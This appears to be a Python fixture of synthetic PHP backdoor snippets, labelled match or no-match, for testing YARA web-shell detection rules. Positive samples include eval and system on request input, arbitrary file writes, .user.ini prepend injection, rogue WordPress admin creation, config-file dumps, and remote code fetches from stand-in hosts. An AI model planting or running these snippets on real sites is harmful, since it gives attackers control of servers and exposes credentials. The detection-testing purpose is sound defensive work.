"""Must-hit / near-miss samples for `signatures/tiny_backdoors.yar` and the issue-4g widenings of
input_to_sink/backdoors_small rules, collected by tests/test_rules.py.

Small synthetic PHP written for the tests; nothing here comes from the malware corpus.
"""

from __future__ import annotations

CASES: list[tuple[str, bytes, bool]] = [
    # --- tiny_backdoors.yar ----------------------------------------------------------------------
    (
        "SPAMGEAR_TINY_AliasedInputFileWrite",
        b"<?php $q = $_REQUEST; file_put_contents($q['path'], $q['body']); echo 'saved';",
        True,
    ),
    (
        "SPAMGEAR_TINY_AliasedInputFileWrite",
        b"<?php\n$in = $GLOBALS['_POST'];\n$h = fopen($in['n'], 'w');\n"
        b"fwrite($h, base64_decode($in['d']));\n",
        True,
    ),
    (
        "SPAMGEAR_TINY_AliasedInputFileWrite",
        b"<?php $opts = $defaults; file_put_contents($paths['cache'], $opts['json']);",
        False,
    ),
    (
        "SPAMGEAR_TINY_AliasedInputFileWrite",
        b"<?php $form = $_POST; file_put_contents('contact.log', $form['msg']);",
        False,
    ),
    (
        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
        b"<?php\n$target = $_GET['to'];\n$payload = base64_decode($_POST['blob']);\n"
        b"file_put_contents($target, $payload);\necho 'done';\n",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
        b"<?php $w = $_POST['w']; $t = $_POST['t'];\n$fh = fopen($w, 'w'); fwrite($fh, $t); fclose($fh);",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
        b"<?php\n$name = $_POST['name'];\n$msg = $_POST['msg'];\n$file = 'guestbook.txt';\n"
        b"$line = $name . ': ' . $msg;\nfile_put_contents($file, $line);\n",
        False,
    ),
    (
        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
        b"<?php\n$page = $_POST['page'];\n$text = $_POST['text'];\n"
        b"if (!preg_match('/^[a-z]+$/', $page)) die();\nfile_put_contents($page, $text);\n",
        False,
    ),
    (
        "SPAMGEAR_TINY_Base64SinkNameCall",
        b"<?php $d = 'base' . '64_' . 'decode'; $fn = $d('YXNzZXJ0'); @$fn($x);",
        True,
    ),
    (
        "SPAMGEAR_TINY_Base64SinkNameCall",
        b'<?php $u = $conv("c3lzdGVt"); $u($cmd);',
        True,
    ),
    (
        "SPAMGEAR_TINY_Base64SinkNameCall",
        b"<?php $label = $t('YXNzZXJ0aW9uIGZhaWxlZA=='); echo $label;",
        False,
    ),
    (
        "SPAMGEAR_TINY_HiddenPathLoad",
        b"<?php include(pack('H*', '2f746d702f2e63616368652e706870'));",
        True,
    ),
    (
        "SPAMGEAR_TINY_HiddenPathLoad",
        b"<?php eval(file_get_contents(hex2bin('687474703a2f2f6578616d706c652e6e65742f70')));",
        True,
    ),
    (
        "SPAMGEAR_TINY_HiddenPathLoad",
        b"<?php $key = pack('H*', 'deadbeef'); include __DIR__ . '/lib/crypto.php';",
        False,
    ),
    (
        "SPAMGEAR_TINY_WrittenInputIncluded",
        b"<?php $f = sys_get_temp_dir() . '/x';\nfile_put_contents($f, $_POST['code']);\ninclude $f;",
        True,
    ),
    (
        "SPAMGEAR_TINY_WrittenInputIncluded",
        b"<?php include 'header.php';\nfile_put_contents('visits.txt', date('c'));\necho $_POST['q'];",
        False,
    ),
    (
        "SPAMGEAR_TINY_AppendedPiecesEval",
        b"<?php\n$s = '';\n$s .= 'ZXZh';\n$s .= 'bCgk';\n$s .= 'X1BP';\n$s .= 'U1Rb';\n"
        b"eval(base64_decode($s));\n",
        True,
    ),
    (
        "SPAMGEAR_TINY_AppendedPiecesEval",
        b"<?php\n$html = '';\n$html .= '<ul>';\n$html .= '<li>a</li>';\n$html .= '</ul>';\necho $html;\n",
        False,
    ),
    (
        "SPAMGEAR_TINY_SendmailLogOption",
        b"<?php mail('a@example.com', 'hi', $body, '', '-OQueueDirectory=/tmp -X /var/www/html/log.php');",
        True,
    ),
    (
        "SPAMGEAR_TINY_SendmailLogOption",
        b"<?php mail($to, $subject, $body, $headers, '-f noreply@example.com');\n// curl -X POST ...",
        False,
    ),
    (
        "SPAMGEAR_TINY_SecretFileDump",
        b"<?php echo file_get_contents('../../wp-config.php'); ?>",
        True,
    ),
    ("SPAMGEAR_TINY_SecretFileDump", b"<?php highlight_file('/etc/passwd');", True),
    (
        "SPAMGEAR_TINY_SecretFileDump",
        b"<?php echo file_get_contents('../templates/footer.html'); ?>",
        False,
    ),
    (
        "SPAMGEAR_TINY_EvalOfSinkCallString",
        b"<?php $p = '$_PO'; $q = 'ST[k]'; eval('assert(' . $p . $q . ');');",
        True,
    ),
    (
        "SPAMGEAR_TINY_EvalOfSinkCallString",
        b"<?php eval('return ' . $expr . ';');",
        False,
    ),
    # --- input_to_sink.yar widenings ---------------------------------------------------------------
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php array_diff_ukey(array($_POST['k'] => 1), array(1 => 1), $_REQUEST['cb']);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php array_diff_ukey($a, array($_POST['k'] => 1), 'strcasecmp');",
        False,
    ),
    ("SPAMGEAR_INPUT_PregReplaceEval", b"<?php preg_filter('|.*|e', $_REQUEST['c'], '');", True),
    ("SPAMGEAR_INPUT_PregReplaceEval", b"<?php preg_filter('|\\s+|', ' ', $_REQUEST['c']);", False),
    (
        "SPAMGEAR_INPUT_PregReplaceEvalPattern",
        b"<?php $out = preg_filter('#(\\d+)#e', 'dechex(\\\\1)', $in);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        b"<?php preg_replace(\"/.*/e\", str_rot13('@riny($_CBFG[k]);'), 'x');",
        True,
    ),
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        b"<?php preg_replace('~x~e', '@' . base64_decode('ZXZhbCgpOw=='), 'x');",
        True,
    ),
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        b"<?php $s = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $t);",
        False,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $p = $GLOBALS['_POST']; eval($p['z']);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $cfg = $GLOBALS['_CONFIG']; eval($cfg['hook']);",
        False,
    ),
    # --- backdoors_small.yar widening ------------------------------------------------------------
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $c = curl_init($_GET['u']); $o = fopen($_GET['o'], 'w');\n"
        b"curl_setopt($c, CURLOPT_FILE, $o); curl_exec($c);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $c = curl_init($_GET['u']); $o = fopen('/var/cache/app/feed.xml', 'w');\n"
        b"curl_setopt($c, CURLOPT_FILE, $o); curl_exec($c);",
        False,
    ),
    # --- round 2: raw body, $_SERVER request keys, upload names, dl(), .user.ini --------------------
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        b"<?php eval(urldecode($_SERVER['QUERY_STRING']));",
        True,
    ),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval($HTTP_RAW_POST_DATA);", True),
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        b"<?php eval('$x = 1;'); $path = $_SERVER['REQUEST_URI'];",
        False,
    ),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php dl($_GET['ext']);", True),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php if (!extension_loaded('gd')) { dl('gd.so'); }", False),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php mb_ereg_replace_callback('.+', $_GET['f'], $_GET['a']);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $q = $_SERVER['QUERY_STRING']; system(urldecode($q));",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $q = $_SERVER['SERVER_NAME']; system(urldecode($q));",
        False,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php file_put_contents($_GET['f'], file_get_contents('php://input'));",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php file_put_contents($_FILES['up']['name'], file_get_contents($_FILES['up']['tmp_name']));",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php file_put_contents('upload.log', file_get_contents('php://input'));",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $f = fopen($_GET['f'], 'w'); fwrite($f, file_get_contents('php://input')); fclose($f);",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputNamedInputWrite",
        b"<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['name'], $_POST['data']);",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputNamedInputWrite",
        b"<?php file_put_contents(__DIR__ . '/notes/' . basename($_POST['name']), $_POST['data']);",
        False,
    ),
    (
        "SPAMGEAR_TINY_IniPrependWriter",
        b"<?php file_put_contents('.user.ini', 'auto_prepend_file=' . $_GET['f']);",
        True,
    ),
    (
        "SPAMGEAR_TINY_IniPrependWriter",
        b"<?php // see .user.ini\n$v = ini_get('auto_prepend_file'); echo $v;",
        False,
    ),
    # --- round 3: indirect writes, loaders, callbacks, doorways; near misses from Debian trees -------
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $body = stripslashes($_POST['body']);\n$h = @fopen($_POST['to'], 'a');\n@fputs($h, $body);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $body = $_POST['body'];\n$h = fopen('/var/log/app/feedback.log', 'a');\nfputs($h, $body);",
        False,
    ),
    (
        "SPAMGEAR_TINY_WrittenInputIncluded",
        b"<?php $c = base64_decode($_GET['c']);\nfile_put_contents('cache_view.html', $c);\n"
        b"require 'cache_view.html';",
        True,
    ),
    (
        "SPAMGEAR_TINY_WrittenInputIncluded",
        b"<?php $n = intval($_GET['n']);\nfile_put_contents('count.txt', $n);\nrequire 'footer.php';",
        False,
    ),
    (
        "SPAMGEAR_TINY_InputFileEditor",
        b"<?php $p = $_POST['p']; $t = $_POST['t'];\n$old = file_get_contents($p);\n"
        b"if ($t) { $f = fopen($p, 'w'); fwrite($f, $t); fclose($f); }\n?>"
        b"<form method=post><input name=p><textarea name=t><?php echo $old; ?></textarea></form>",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputFileEditor",
        b"<?php $p = $_POST['p']; $t = $_POST['t'];\nif (!in_array($p, $pages)) exit;\n"
        b"$old = file_get_contents($p);\nfile_put_contents($p, "
        b"$t);\n?><textarea><?php echo $old; ?></textarea>",
        False,
    ),
    ("SPAMGEAR_TINY_EvalOfFileContents", b"<?php eval(file_get_contents('logo_small.gif')); ?>", True),
    (
        "SPAMGEAR_TINY_EvalOfFileContents",
        b"<?php $cfg = json_decode(file_get_contents('settings.json'), true); eval('$x = 1;');",
        False,
    ),
    (
        "SPAMGEAR_TINY_IncludeOfNonCodeFile",
        b'<?php @include "/home/site/public_html/favicon_3a1c.ico";',
        True,
    ),
    ("SPAMGEAR_TINY_IncludeOfNonCodeFile", b"<?php\n\tinclude 'notes.txt';\n", True),
    ("SPAMGEAR_TINY_IncludeOfNonCodeFile", b"<?php include 'index.html'; ?>", False),
    (
        "SPAMGEAR_TINY_YamlCallbackSink",
        b"<?php yaml_parse($doc, 0, $n, array('!x' => 'assert'));",
        True,
    ),
    (
        "SPAMGEAR_TINY_YamlCallbackSink",
        b"<?php yaml_parse($doc, 0, $n, array('!date' => 'parse_date_tag'));",
        False,
    ),
    (
        "SPAMGEAR_TINY_BuiltVarVarCall",
        b"<?php $f = 'fn'; $x = '_'; $y = 'GET'; $fn = 'sys' . 'tem';\n${$f}(${$x . $y}['c']);",
        True,
    ),
    (
        "SPAMGEAR_TINY_BuiltVarVarCall",
        b"<?php $name = 'cfg_' . $key; echo ${$prefix . $name}; $cb = 'render'; $cb();",
        False,
    ),
    (
        "SPAMGEAR_TINY_RemotePhpSavedByName",
        b"<?php $url = 'http://cdn.example.org/x/tool.php';\n$file = basename($url);\n"
        b"file_put_contents($file, file_get_contents($url));",
        True,
    ),
    (
        "SPAMGEAR_TINY_RemotePhpSavedByName",
        b"<?php $url = 'https://api.example.org/v1/status.php';\n$r = file_get_contents($url);\necho $r;",
        False,
    ),
    (
        "SPAMGEAR_TINY_RemoteDoorwayProxy",
        b"<?php $src = 'http://spam.example.net/';\n"
        b"$page = file_get_contents($src . 'p.php?h=' . $_SERVER['HTTP_HOST'] . "
        b"'&q=' . $_SERVER['QUERY_STRING']);\n"
        b"echo $page;",
        True,
    ),
    (
        "SPAMGEAR_TINY_RemoteDoorwayProxy",
        b"<?php $api = 'https://license.example.com/';\n"
        b"$ok = file_get_contents($api . 'check?site=' . "
        b"$_SERVER['HTTP_HOST']);\nif ($ok !== 'yes') die('unlicensed');",
        False,
    ),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        b"<?php $s = ''; foreach (array($_GET['id']) as $v) { $s .= $v; } "
        b"ob_start($s); echo 1; ob_end_flush();",
        True,
    ),
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        b"<?php assert(isset($_REQUEST['id'])); assert(is_string($_POST['name']));",
        False,
    ),
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        b"<?php if (!function_exists('getallheaders')) { eval('function "
        b"getallheaders() { return array(); }'); }",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php $module = new $_GET['module']($_GET['scope']);",
        False,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\n/* " + b"plugin licence text " * 80 + b"*/\nclass Runner {\n"
        b"  function run() { if (isset($_POST['go'])) proc_open($this->command, $d, $p); }\n}",
        False,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $this->c = $_POST['c']; eval($this->c);",
        True,
    ),
    # --- round 4: aliases, raw body to shell, upload temp include, admin creation, SQL console ------
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php system(file_get_contents('php://input'));", True),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php passthru(getenv('HTTP_X_RUN'));", True),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $body = file_get_contents('php://input'); system('logger received');",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php $v = get_defined_vars(); $v['_GET']['f']($v['_GET']['a']);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php $v = $GLOBALS['_GET']['page']; echo htmlspecialchars($v);",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        b"<?php session_set_save_handler($_GET['o'], 'c', 'r', 'w', 'd', 'g');",
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", b"<?php $rows = $st->fetchAll(PDO::FETCH_FUNC, 'assert');", True),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php $rows = $st->fetchAll(PDO::FETCH_FUNC, 'make_row');",
        False,
    ),
    ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", b"<?php $t = $_FILES['f']['tmp_name']; include $t;", True),
    (
        "SPAMGEAR_INPUT_TinyIncludeOfInputVar",
        b"<?php $t = $_FILES['f']['tmp_name']; if (is_file($t)) { include $t; }",
        False,
    ),
    ("SPAMGEAR_TINY_AliasedInputCall", b"<?php $_ = $_POST; $__ = $_['a']; $__($_['b']);", True),
    ("SPAMGEAR_TINY_AliasedInputCall", b"<?php $r = $_REQUEST; $r['fn']($r['arg']);", True),
    ("SPAMGEAR_TINY_AliasedInputCall", b"<?php $p = $_POST; $name = trim($p['name']); echo $name;", False),
    (
        "SPAMGEAR_TINY_InputVarToPhpFile",
        b"<?php $c = $_GET['c']; file_put_contents('theme-cache.php', $c);",
        True,
    ),
    (
        "SPAMGEAR_TINY_InputVarToPhpFile",
        b"<?php $h = $_POST['host']; $cfg = '<?php $host = ' . var_export($h, true) . ';';\n"
        b"file_put_contents('config.php', $cfg);",
        False,
    ),
    (
        "SPAMGEAR_TINY_WpAdminCreate",
        b"<?php require 'wp-load.php';\n$id = wp_create_user($_GET['u'], $_GET['p'], 'x@example.org');\n"
        b"$u = new WP_User($id); $u->set_role('administrator');",
        True,
    ),
    (
        "SPAMGEAR_TINY_WpAdminCreate",
        b"<?php if (!current_user_can('create_users')) wp_die();\n"
        b"$id = wp_create_user($login, $pass, $mail);\n"
        b"$u = new WP_User($id); $u->set_role('administrator');",
        False,
    ),
    (
        "SPAMGEAR_TINY_RawSqlConsole",
        b"<?php include '../wp-config.php';\n$l = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n"
        b"$r = mysqli_query($l, $_POST['q']);",
        True,
    ),
    (
        "SPAMGEAR_TINY_RawSqlConsole",
        b"<?php $id = (int) $_GET['id'];\n$r = mysqli_query($l, 'SELECT * FROM t WHERE id = ' . $id);",
        False,
    ),
    (
        "SPAMGEAR_TINY_IncludeOfNonCodeFile",
        b"<?php require_once(dirname(__FILE__) . '/images/x.ico');",
        True,
    ),
    (
        "SPAMGEAR_TINY_IncludeOfNonCodeFile",
        b"<?php require_once(dirname(__FILE__) . '/lib/icons.png.php'); $logo = 'logo.png';",
        False,
    ),
]
